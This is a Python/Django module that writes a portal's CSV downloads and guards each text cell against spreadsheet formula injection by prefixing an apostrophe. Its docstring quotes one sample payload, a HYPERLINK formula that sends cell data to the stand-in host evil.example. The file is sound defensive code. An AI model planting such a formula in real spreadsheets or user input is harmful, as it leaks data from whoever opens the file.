"""The one CSV writer of the portal: every CSV download (public exports, the secretariat's
moderation queue and vote tally, roadmap versions) is written here, so every cell is
formula-safe.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one, or their full-width forms) as a formula: stakeholder text such as
`=HYPERLINK("https://evil.example/?"&A1,"Click")` would run on the secretariat's machine. Such a
text cell gets a leading apostrophe, which spreadsheets show as text and never evaluate (the
OWASP recommendation). Numbers stay numbers: only text is ever escaped.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse

CONTENT_TYPE = "text/csv; charset=utf-8"
# The first characters a spreadsheet would evaluate, with their full-width forms.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def csv_cell(value: Any) -> Any:
    """A value as a formula-safe CSV cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    stripped = text.lstrip(" \n")
    if stripped[:1] in FORMULA_STARTS:
        return "'" + text
    return text


class _Line:
    """A file whose write returns what it was given (one CSV line at a time)."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text, line by line: the header, then each row with every cell made safe."""
    writer = csv.writer(_Line())
    yield writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_text(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> str:
    output = io.StringIO()
    for line in csv_lines(header, rows):
        output.write(line)
    return output.getvalue()


def csv_response(
    filename: str,
    header: Sequence[str],
    rows: Iterable[Iterable[Any]],
    *,
    streaming: bool = False,
) -> HttpResponse | StreamingHttpResponse:
    """A CSV download. `streaming` sends rows as they are made (large public exports)."""
    if streaming:
        response: HttpResponse | StreamingHttpResponse = StreamingHttpResponse(
            csv_lines(header, rows), content_type=CONTENT_TYPE
        )
    else:
        response = HttpResponse(csv_text(header, rows), content_type=CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
